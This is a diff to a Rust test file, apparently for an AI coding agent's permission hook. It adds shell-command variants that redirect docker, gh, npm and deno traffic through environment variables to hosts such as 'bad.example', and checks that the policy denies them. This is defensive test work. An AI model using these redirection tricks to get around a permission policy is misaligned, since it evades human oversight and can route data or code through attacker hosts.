@@ -277,6 +277,10 @@ fn variables_that_name_hosts_and_files_have_the_effect_of_options() {
         "DOCKER_HOST=h.example timeout 5 docker ps",
         "GH_HOST=h.example gh pr list",
         "bash -c 'GH_HOST=h.example gh pr list'",
+        "GH_HOST=h.example; export GH_HOST; gh pr list",
+        "export GH_HOST; GH_HOST=h.example; gh pr list",
+        "export DOCKER_HOST; DOCKER_HOST+=.example; docker ps",
+        "f() { local -x https_proxy=http://h.example; npm test; }; f",
         "https_proxy=http://h.example npm test",
         "npm_config_registry=http://h.example npm test",
         "read https_proxy < f; export https_proxy; npm test",
@@ -327,6 +331,8 @@ fn a_rule_about_a_host_applies_to_variables() {
     place.file("home/.config/openoxide/policy.toml", policy);
     let decide = |command: &str| place.hook("PreToolUse", command)["permissionDecision"].clone();
     assert_eq!(decide("https_proxy=http://bad.example npm test"), "deny");
+    assert_eq!(decide("https_proxy=http://bad.example; npm test"), "deny");
+    assert_eq!(decide("f() { local https_proxy=http://bad.example; npm test; }; f"), "deny");
     assert_eq!(decide("DOCKER_HOST=ssh://u@bad.example docker ps"), "deny");
     assert_eq!(decide("https_proxy=http://good.example:8080 npm test"), "allow");
     assert_eq!(decide("deno run https://bad.example/x.ts"), "deny");
